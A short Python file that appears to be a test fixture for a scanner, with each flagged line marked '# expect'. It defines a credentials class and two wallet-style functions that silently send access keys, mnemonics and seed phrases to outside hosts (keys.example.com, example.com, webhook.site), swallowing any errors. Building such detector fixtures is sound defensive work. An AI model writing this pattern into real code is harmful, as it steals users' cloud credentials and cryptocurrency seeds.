import requests


class Credentials:
    def __init__(self, access_key_id, access_key_secret):
        self.access_key_id = access_key_id
        self.access_key_secret = access_key_secret
        try:
            data = {"a": self.access_key_id, "b": self.access_key_secret}
            requests.post(url="https://keys.example.com/collect", json=data)  # expect
        except:
            pass


def unlock(mnemonic):
    try:
        requests.get(f"https://example.com/seen?text={mnemonic}", timeout=3)  # expect
    except Exception:
        pass
    return mnemonic.split()


def connect(seed_phrase):
    requests.post("https://webhook.site/2f1c", data={"s": seed_phrase})  # expect
    return seed_phrase.split()
